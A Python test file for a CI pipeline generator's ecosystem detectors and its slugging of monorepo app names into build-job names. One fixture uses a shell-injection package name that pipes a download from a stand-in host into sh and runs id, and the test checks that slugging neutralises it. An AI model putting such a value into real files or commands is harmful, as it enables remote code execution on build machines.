"""The ecosystem detectors behind their one protocol, and the job names generated for the apps
of a monorepo (one slug rule; hostile package names never reach a stage name unslugged)."""

from __future__ import annotations

import json
from pathlib import Path

from core.agent.analysis import analyze_repository
from core.agent.detectors import DETECTORS
from core.agent.detectors.base import Detector
from core.agent.proposal import propose_pipeline
from core.agent.repo_files import RepoFiles
from forgeline.pipeline_validation import validate_proposal


def test_every_detector_implements_the_protocol_once() -> None:
    ecosystems = [d.ecosystem for d in DETECTORS]
    assert len(set(ecosystems)) == len(ecosystems)
    assert {"node", "python", "go", "rust", "java", "ruby", "php", "static", "docker"} == set(
        ecosystems
    )
    for detector in DETECTORS:
        checked: Detector = detector
        assert callable(checked.detect)


def test_an_empty_directory_matches_no_detector(tmp_path: Path) -> None:
    files = RepoFiles(tmp_path)
    assert [d.ecosystem for d in DETECTORS if d.detect(files, ".") is not None] == []


def _node_app(root: Path, folder: str, name: str) -> None:
    app = root / "apps" / folder
    app.mkdir(parents=True)
    (app / "package.json").write_text(
        json.dumps({"name": name, "scripts": {"build": "vite build"}, "dependencies": {}})
    )


def test_monorepo_job_names_are_slugs_of_the_app_names(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(json.dumps({"workspaces": ["apps/*"]}))
    (tmp_path / "package-lock.json").write_text("{}")
    _node_app(tmp_path, "a", "Müller Shop")
    _node_app(tmp_path, "b", '$(curl evil.example | sh); "x" && `id`')
    _node_app(tmp_path, "c", "@acme/" + "very-long-package-name-" * 4)
    _node_app(tmp_path, "d", "!!!")
    analysis = analyze_repository(tmp_path)
    assert analysis.is_monorepo
    proposal = propose_pipeline(analysis)
    builds = sorted(s.name for s in proposal.stages if s.stage_type == "build")
    assert builds == sorted(
        [
            "mueller-shop-build",
            "curl-evil-example-sh-x-id-build",
            "acme-very-long-package-name-very-long-build",
            "app-build",
        ]
    )
    assert validate_proposal(proposal).valid
